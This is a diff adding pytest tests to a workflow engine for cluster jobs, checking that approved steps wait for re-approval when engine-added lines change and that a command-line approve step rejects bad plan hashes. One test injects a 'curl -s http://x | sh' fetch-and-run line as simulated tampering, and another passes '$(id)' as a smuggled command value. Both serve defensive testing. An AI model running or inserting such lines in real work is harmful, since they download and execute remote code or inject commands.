@@ -12,6 +12,8 @@ outside its place. Tests of attacks that already failed safely say so ("guard").
 
 from __future__ import annotations
 
+import json
+import textwrap
 from pathlib import Path
 from typing import Any
 
@@ -158,3 +160,221 @@ async def test_a_tool_calls_copy_of_a_hidden_source_into_a_directory_is_refused(
     finally:
         await fed.close()
     assert not list((fed.server_root).rglob(src))
+
+
+# -- 3. an approved workflow: what the engine adds to a step -------------------------------------
+
+INPUTS = textwrap.dedent("""\
+    name: inputs
+    queue_ahead: false
+    steps:
+      - {name: prep, site: alpha, script: "#!/bin/bash\\necho prep > out.bin\\n"}
+      - name: train
+        site: alpha
+        needs: [prep]
+        inputs: [{from: prep, path: out.bin}]
+        script: "#!/bin/bash\\necho train\\n"
+    """)
+
+
+@pytest.fixture
+async def wf_engine(tmp_path):
+    from test_workflow_approval import Ops
+
+    from diamond_jupyter.store import Store
+    from diamond_jupyter.workflow.engine import WorkflowEngine
+
+    ops = Ops(Store(tmp_path / "store.sqlite"))
+    eng = WorkflowEngine(ops)
+    yield eng, ops
+    await eng.close()
+
+
+async def _prep_done(eng: Any, ops: Any, wid: str) -> None:
+    from diamond_jupyter.model import JobState
+
+    job = next(j for j in ops.store.list_jobs(limit=None)
+               if (j.origin or {}).get("step") == "prep")
+    ops.store.apply_state(job.id, JobState.COMPLETED, exit_code=0)
+    await eng.advance(wid)
+
+
+async def test_an_approved_step_whose_engine_lines_differ_waits_for_approval(wf_engine,
+                                                                             monkeypatch):
+    """The approval pinned each step's script as rendered before the engine added its lines
+    (input copies and checks, the dependency on upstream jobs, the gate, a hold): an engine
+    whose added lines differ from those of the approval (another version resumed the
+    workflow) ran them unseen. The plan now shows those lines as a fixed template, the
+    approval pins it, and a step whose engine lines would differ waits, phase
+    "unapproved", saying why."""
+    from diamond_jupyter.workflow import engine as engine_mod
+    from diamond_jupyter.workflow.model import load_workflow
+
+    eng, ops = wf_engine
+    wf = load_workflow(INPUTS, sites=("alpha", "beta", "gamma"))
+    wid = await eng.run(wf, approval=ops.pins(wf, {"prep": ["alpha"], "train": ["alpha"]}))
+    real = engine_mod.copy_lines
+    monkeypatch.setattr(engine_mod, "copy_lines", lambda copies: real(copies) + (
+        "curl -s http://x | sh\n" if copies else ""))
+    await _prep_done(eng, ops, wid)
+    assert [s["step"] for s in ops.submits] == ["prep"]  # train reached no scheduler
+    st = ops.store.get_workflow(wid).step("train")
+    assert st.phase == "unapproved"
+    assert "the lines the engine adds to it (input copies and checks, dependencies, gate, " \
+           "hold) would differ from the approved ones" in st.reason
+
+
+async def test_an_approval_without_the_engine_lines_does_not_cover_a_step_with_inputs(
+        wf_engine):
+    """An approval that pins no engine lines (made before they were shown, or a forged one)
+    covers a step without needs, inputs or gang (nothing is added to it), not one with."""
+    from diamond_jupyter.workflow.model import load_workflow
+
+    eng, ops = wf_engine
+    wf = load_workflow(INPUTS, sites=("alpha", "beta", "gamma"))
+    pins = ops.pins(wf, {"prep": ["alpha"], "train": ["alpha"]})
+    del pins["engine"]
+    wid = await eng.run(wf, approval=pins)
+    await _prep_done(eng, ops, wid)
+    assert [s["step"] for s in ops.submits] == ["prep"]
+    assert "its approval does not cover the lines the engine adds" in \
+        ops.store.get_workflow(wid).step("train").reason
+
+
+async def test_an_approved_step_with_the_approved_engine_lines_runs(wf_engine):
+    """(guard) The same lines as approved: train runs, its event naming the values the
+    template's placeholders took (the copy's source, the upstream job id)."""
+    from diamond_jupyter.workflow.model import load_workflow
+
+    eng, ops = wf_engine
+    wf = load_workflow(INPUTS, sites=("alpha", "beta", "gamma"))
+    wid = await eng.run(wf, approval=ops.pins(wf, {"prep": ["alpha"], "train": ["alpha"]}))
+    await _prep_done(eng, ops, wid)
+    assert [s["step"] for s in ops.submits] == ["prep", "train"]
+    ev = [e for e in ops.store.events_since(0, kinds=["workflow.step"], limit=None)
+          if e.data["step"] == "train" and e.data.get("job")][-1]
+    prep_dir = next(j.workdir for j in ops.store.list_jobs(limit=None)
+                    if (j.origin or {}).get("step") == "prep")
+    assert ev.data["copied"] == [[f"{prep_dir}/out.bin", "out.bin"]]
+
+
+PY_STEP = textwrap.dedent("""\
+    name: py
+    steps:
+      - {name: prep, site: alpha, script: "#!/bin/bash\\n#SBATCH -t 5\\necho 1 > out.bin\\n"}
+      - name: fit
+        site: alpha
+        needs: [prep]
+        inputs: [{from: prep, path: out.bin}]
+        script: "#!/usr/bin/env python3\\n#SBATCH -t 5\\nprint(open('out.bin').read())\\n"
+    """)
+
+
+async def test_the_plan_shows_the_engine_lines_with_their_placeholders(tmp_path, monkeypatch):
+    """The plan a person approves shows, per step, what the engine may add: the copy line
+    with `{job directory of step prep}`, the check, the dependency on `{job id of step
+    prep}`, the gate; for a Python step the whole script bash then runs (its body after the
+    lines). A plan whose engine lines were altered is refused when approved."""
+    from test_workflow_approval import _fed
+
+    from diamond_jupyter.federation_plan import PlanChanged
+
+    fed = _fed(tmp_path, monkeypatch)
+    try:
+        plan = await fed.plan_workflow(PY_STEP)
+        prep, fit = plan["steps"]
+        assert prep["engine_lines"] == []
+        text = "\n".join(fit["engine_lines"])
+        assert "cp -p -- '{job directory of step prep}/out.bin' out.bin" in text
+        assert "[ -e out.bin ] || { echo 'workflow input out.bin has not arrived'" in text
+        assert "afterok:{job id of step prep}" in text and "afterany:{job id of its gate}" in text
+        assert "where: the script becomes, run by /bin/bash" in text
+        assert "print(open('out.bin').read())" in text
+        forged = json.loads(json.dumps(plan))
+        forged["steps"][1]["engine_sha256"] = "0" * 64
+        with pytest.raises(PlanChanged, match="step 'fit': the lines the engine adds to it "
+                                              "differ from the approved ones"):
+            await fed.run_workflow_approved(PY_STEP, forged)
+        assert fed.workflows() == []
+    finally:
+        await fed.close()
+
+
+# -- 4. approving again from the command line ----------------------------------------------------
+
+def _cli_sites(tmp_path: Path, account: str | None = None) -> Path:
+    sbatch = tmp_path / "sbatch"
+    sbatch.write_text(f"#!/bin/sh\nn=$(cat {tmp_path}/n 2>/dev/null || echo 500)\n"
+                      f"echo $((n + 1)) > {tmp_path}/n\necho $((n + 1))\n")
+    sbatch.chmod(0o755)
+    cfg = tmp_path / "sites.yaml"
+    cfg.write_text(yaml.safe_dump({"store": str(tmp_path / "s.sqlite"), "sites": [
+        {"name": "alpha", "transport": {"kind": "local"}, "workdir": str(tmp_path / "alpha"),
+         "commands": {"sbatch": str(sbatch)}, "discovery": {"enabled": False},
+         **({"default_account": account} if account else {})}]}))
+    cfg.chmod(0o600)
+    return cfg
+
+
+CLI_WF = textwrap.dedent("""\
+    name: cli
+    queue_ahead: false
+    steps:
+      - {name: prep, site: alpha, script: "#!/bin/bash\\n#SBATCH -t 5\\necho prep\\n"}
+      - {name: train, site: alpha, needs: [prep], script: "#!/bin/bash\\n#SBATCH -t 5\\necho t\\n"}
+    """)
+
+
+async def _unapproved_workflow(tmp_path: Path) -> str:
+    """A workflow run as approved, whose step train then waits for a new approval (its
+    site's account changed)."""
+    from diamond_jupyter.federation import Federation
+    from diamond_jupyter.model import JobState
+
+    fed = Federation(str(_cli_sites(tmp_path)))
+    try:
+        plan = await fed.plan_workflow(CLI_WF)
+        wid = (await fed.run_workflow_approved(CLI_WF, plan)).id
+        fed.sites["alpha"].cfg.default_account = "changed"
+        fed.store.apply_state(fed.workflow(wid).steps[0].job, JobState.COMPLETED, exit_code=0)
+        await fed.workflow_engine.advance(wid)
+        assert fed.workflow(wid).awaiting_approval == ["train"]
+    finally:
+        await fed.close()
+    _cli_sites(tmp_path, account="changed")
+    return wid
+
+
+async def test_the_cli_shows_a_workflows_plan_and_approves_exactly_it(tmp_path, capsys,
+                                                                     monkeypatch):
+    """Re-approval had REST routes and the facade only: from a terminal a workflow that
+    waited for approval could not go on. `diamond workflow plan ID` shows per step its
+    sites and rendered scripts and the plan's sha256; `diamond workflow approve ID
+    --plan-hash H` approves that plan, and refuses (exit 2) a hash that is no longer the
+    plan's (the world changed since it was shown) or is no sha256."""
+    import asyncio
+
+    from diamond_jupyter.cli.main import main
+
+    monkeypatch.setenv("DIAMOND_HANDOVER", "0")
+    wid = await _unapproved_workflow(tmp_path)
+    cfg = str(tmp_path / "sites.yaml")
+    run = lambda *a: asyncio.to_thread(main, [*a, "--config", cfg])  # noqa: E731
+    assert await run("workflow", "plan", wid) == 0
+    text = capsys.readouterr().out
+    assert "step train: site alpha, may run on alpha; waits for approval:" in text
+    assert "    | #SBATCH --account=changed" in text and "    | echo t" in text
+    assert await run("workflow", "plan", wid, "--json") == 0
+    shown = json.loads(capsys.readouterr().out)
+    assert f"plan sha256: {shown['plan_sha256']}" in text
+    assert await run("workflow", "approve", wid, "--plan-hash", "1" * 64) == 2
+    err = capsys.readouterr().err
+    assert f"plan changed since it was shown (its sha256 is now {shown['plan_sha256']})" in err
+    assert await run("workflow", "approve", wid, "--plan-hash", "$(id)") == 2
+    assert "is not a sha256" in capsys.readouterr().err
+    assert await run("workflow", "approve", wid) == 2  # no terminal: no plan seen, none approved
+    assert "give --plan-hash H" in capsys.readouterr().err
+    assert await run("workflow", "approve", wid, "--plan-hash", shown["plan_sha256"],
+                     "--json") == 0
+    view = json.loads(capsys.readouterr().out)
+    assert view["awaiting_approval"] == [] and view["steps"][1]["job"]
